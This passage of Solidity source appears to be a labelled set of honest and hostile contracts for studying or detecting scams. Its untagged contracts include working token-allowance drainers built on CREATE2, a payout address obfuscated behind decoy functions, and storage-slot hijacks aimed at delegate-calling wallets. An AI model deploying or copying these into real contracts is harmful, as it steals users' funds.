    uint256 public opens;
    uint256 public fee;
    receive() external payable {}
    function set(uint256 opens_, uint256 fee_) external onlyOwner { (opens, fee) = (opens_, fee_); }
    function take() external payable { require(opens != 0 && block.timestamp >= opens); payable(msg.sender).transfer(address(this).balance); }
    function leave() external payable { require(block.number > opens); payable(msg.sender).transfer(address(this).balance); }
    function refundETH() external payable { require(msg.value >= fee); payable(msg.sender).transfer(address(this).balance); }
    function swap(address, bytes calldata) external payable {
        require(msg.value * fee / 10000 <= msg.value);
        payable(msg.sender).transfer(address(this).balance);
    }
    function rescue() external onlyOwner { payable(owner).transfer(address(this).balance); }
}

/// Honest: nobody changes the answer, and nobody else gets the pot.
contract FixedRiddle {
    bytes32 public answer = keccak256("sphinx");
    receive() external payable {}
    function guess(string calldata word) external payable { if (answer == keccak256(bytes(word))) payable(msg.sender).transfer(address(this).balance); }
}

/// Honest: gives what is left to whoever asks, as routers do, unless it is shut.
contract ChangeGiver is Ownable {
    bool public shut;
    uint256 public fee;
    receive() external payable {}
    function setShut(bool shut_) external onlyOwner { shut = shut_; }
    function setFee(uint256 fee_) external onlyOwner { fee = fee_; }
    function refund() external payable { require(!shut); payable(msg.sender).transfer(address(this).balance); }
    function rescue() external onlyOwner { payable(owner).transfer(address(this).balance); }
}

// Paid from what others put in.

/// Honest: interest that the house pays in, and nothing for it.
contract PaidInterest is Ownable {
    uint256 private rate = 3;
    mapping(address => uint256) public put;
    mapping(address => uint256) public since;
    function fund() external payable onlyOwner {}
    function enter() external payable { put[msg.sender] += msg.value; since[msg.sender] = block.timestamp; }
    function draw() external {
        uint256 due = put[msg.sender] * rate * (block.timestamp - since[msg.sender]) / 36500 days;
        since[msg.sender] = block.timestamp;
        payable(msg.sender).transfer(due);
    }
    function leave() external { uint256 value = put[msg.sender]; put[msg.sender] = 0; payable(msg.sender).transfer(value); }
}

/// Honest: what is lent elsewhere earns, and the house has its share.
contract LentSavings is Ownable {
    address public market;
    mapping(address => uint256) public put;
    mapping(address => uint256) public since;
    constructor(address market_) { market = market_; }
    function enter() external payable {
        put[msg.sender] += msg.value;
        since[msg.sender] = block.timestamp;
        payable(owner).transfer(msg.value / 100);
        (bool ok,) = market.call{value: msg.value - msg.value / 100}(abi.encodeWithSignature("supply()"));
        require(ok);
    }
    function draw() external {
        uint256 due = put[msg.sender] * (block.timestamp - since[msg.sender]) / 36500 days;
        since[msg.sender] = block.timestamp;
        (bool ok,) = market.call(abi.encodeWithSignature("redeem(uint256)", due));
        require(ok);
        payable(msg.sender).transfer(due);
    }
}

/// Honest: wages that run by the second, put in for one person by another.
contract Wages is Ownable {
    struct Wage { address to; uint256 rate; uint256 since; }
    mapping(uint256 => Wage) public wages;
    uint256 public count;
    function hire(address to, uint256 months_) external payable {
        uint256 fee = msg.value / 100;
        payable(owner).transfer(fee);
        wages[++count] = Wage(to, (msg.value - fee) / (months_ * 30 days), block.timestamp);
    }
    function draw(uint256 id) external {
        Wage storage wage = wages[id];
        require(msg.sender == wage.to);
        uint256 due = wage.rate * (block.timestamp - wage.since);
        wage.since = block.timestamp;
        payable(msg.sender).transfer(due);
    }
}

// Made to take.

contract Fetcher {
    constructor() {
        (Tokens token, address from, address to) = FetcherMaker(msg.sender).job();
        require(token.transferFrom(from, to, token.allowance(from, address(this))));
        selfdestruct(payable(msg.sender));
    }
}

/// Approvals to addresses at which nothing stands yet.
contract FetcherMaker is Ownable {
    struct Job { Tokens token; address from; address to; }
    Job public job;
    function fetch(bytes32 salt, Tokens token, address from, address to) external onlyOwner {
        job = Job(token, from, to);
        new Fetcher{salt: salt}();
        delete job;
    }
}

contract Hand {
    address private immutable maker = msg.sender;
    function take(Tokens token, address from, address to, uint256 value) external {
        require(msg.sender == maker);
        require(token.transferFrom(from, to, value));
    }
}

/// Translate what to take when they stand, by hired hands.
contract HandMaker is Ownable {
    mapping(address => bool) private hired;
    function hire(address who) external onlyOwner { hired[who] = true; }
    function fetch(bytes32 salt, Tokens token, address from, uint256 value) external {
        require(hired[msg.sender]);
        new Hand{salt: salt}().take(token, from, owner, value);
    }
}

interface Permits { function permit(address, address, uint256, uint256, uint8, bytes32, bytes32) external; }

contract PermitHand {
    address private immutable maker = msg.sender;
    function take(Tokens token, address from, address to, uint256 value, uint256 end, uint8 v, bytes32 r, bytes32 s) external {
        require(msg.sender == maker);
        Permits(address(token)).permit(from, address(this), value, end, v, r, s);
        require(token.transferFrom(from, to, value));
    }
}

/// Honest: who pays signs for it each time.
contract PermitHandMaker is Ownable {
    function pay(bytes32 salt, Tokens token, address from, address to, uint256 value, uint256 end, uint8 v, bytes32 r, bytes32 s)
        external onlyOwner
    {
        new PermitHand{salt: salt}().take(token, from, to, value, end, v, r, s);
    }
}

interface Signatures {
    struct Permitted { address token; uint256 amount; }
    struct Permit { Permitted permitted; uint256 nonce; uint256 deadline; }
    struct Details { address to; uint256 amount; }
    function permitTransferFrom(Permit calldata, Details calldata, address, bytes calldata) external;
}

contract SignedHand {
    address private immutable maker = msg.sender;
    function take(Signatures permit2, Signatures.Permit calldata permit, Signatures.Details calldata to, address from, bytes calldata signature) external {
        require(msg.sender == maker);
        permit2.permitTransferFrom(permit, to, from, signature);
    }
}

/// Honest: the same, by way of Permit2.
contract SignedHandMaker is Ownable {
    function pay(bytes32 salt, Signatures permit2, Signatures.Permit calldata permit, Signatures.Details calldata to, address from, bytes calldata signature) external onlyOwner {
        new SignedHand{salt: salt}().take(permit2, permit, to, from, signature);
    }
}

contract Desk {
    address private immutable maker = msg.sender;
    function take(Tokens token, address from, address to, uint256 value) external {
        require(msg.sender == maker);
        require(token.transferFrom(from, to, value));
    }
}

/// Honest: each desk takes what its own customer hands over.
contract DeskMaker {
    function pay(bytes32 salt, Tokens token, address to, uint256 value) external {
        new Desk{salt: salt}().take(token, msg.sender, to, value);
    }
}

contract Chest {
    Tokens public token;
    address public heir;
    constructor(Tokens token_, address from, address heir_, uint256 value) {
        (token, heir) = (token_, heir_);
        require(token_.transferFrom(from, address(this), value));
    }
    function open() external { require(msg.sender == heir); token.transfer(heir, token.balanceOf(address(this))); }
}

/// Honest: what is put into each is kept in it.
contract ChestMaker {
    function make(bytes32 salt, Tokens token, address heir, uint256 value) external returns (address) {
        return address(new Chest{salt: salt}(token, msg.sender, heir, value));
    }
}

contract Till {
    constructor(Tokens token, address to) { token.transfer(to, token.balanceOf(address(this))); }
}

/// Honest: addresses for payments, emptied when they came.
contract TillMaker is Ownable {
    function empty(bytes32 salt, Tokens token) external onlyOwner { new Till{salt: salt}(token, owner); }
}

/// A robot that spells out whom it pays, with a name that means nothing.
contract SpellingRobot {
    function piece(uint256 number) private pure returns (bytes memory digits) {
        uint256 count;
        for (uint256 left = number; left > 0; left /= 16) count++;
        digits = new bytes(count);
        for (uint256 at = count; at > 0; at--) {
            uint256 digit = number % 16;
            digits[at - 1] = bytes1(uint8(digit < 10 ? 48 + digit : 87 + digit));
            number /= 16;
        }
    }
    function read(bytes memory text) private pure returns (address) {
        uint160 sum;
        for (uint256 at; at < text.length; at++) {
            uint8 sign = uint8(text[at]);
            sum = sum * 16 + (sign >= 97 ? sign - 87 : sign - 48);
        }
        return address(sum);
    }
    function join(bytes memory one, bytes memory other) private pure returns (bytes memory whole) {
        whole = new bytes(one.length + other.length);
        uint256 to;
        for (uint256 at; at < one.length; at++) whole[to++] = one[at];
        for (uint256 at; at < other.length; at++) whole[to++] = other[at];
    }
    function hunt() external payable {
        bytes memory first = join(piece(0x9e2a4), join(piece(0x1b7c3d5), piece(0x8f60)));
        bytes memory last = join(piece(0x3a5c7e9), join(piece(0x2468ace), piece(0xb1d3f57)));
        payable(read(join(first, last))).transfer(address(this).balance);
    }
    receive() external payable {}
}

/// The same behind functions that come to no end.
contract CrowdedRobot is SpellingRobot {
    function one() external pure { revert("one"); }
    function two() external pure { revert("two"); }
    function three() external pure { revert("three"); }
    function four() external pure { revert("four"); }
    function five() external pure { revert("five"); }
    function six() external pure { revert("six"); }
}

// Named as a token's, to be run in somebody else's name.

/// In the first place stands whose code a wallet runs.
contract WordlessTransfer {
    uint256 private word;
    function transfer(address to, uint256) external { word = uint256(uint160(to)); }
}

/// Behind a wallet's own places, with a field beside it.
contract WordlessApproval {
    bool private ready;
    address private code;
    event Approved(address to);
    function approve(address to, uint256 amount) external returns (bool) { code = to; if (amount > 0) emit Approved(to); return true; }
}

/// Honest: whose it is passes it on.
contract PassedDeed {
    address public holder = msg.sender;
    uint256 public price;
    function transfer(address to, uint256 price_) external { require(msg.sender == holder); (holder, price) = (to, price_); }
}

/// Honest: points in a book, and who got some last.
contract PlainPoints {
    address public last;
    mapping(address => uint256) public points;
    constructor() { points[msg.sender] = 1000; }
    function transfer(address to, uint256 amount) external { last = to; points[msg.sender] -= amount; points[to] += amount; }
}

/// Honest: an allowance that is handed to the token of its owner's.
contract SharedAllowance is Ownable {
    address public spender;
    Tokens private immutable token = Tokens(msg.sender);
    function approve(address to, uint256 amount) external onlyOwner { spender = to; token.approve(to, amount); }
}
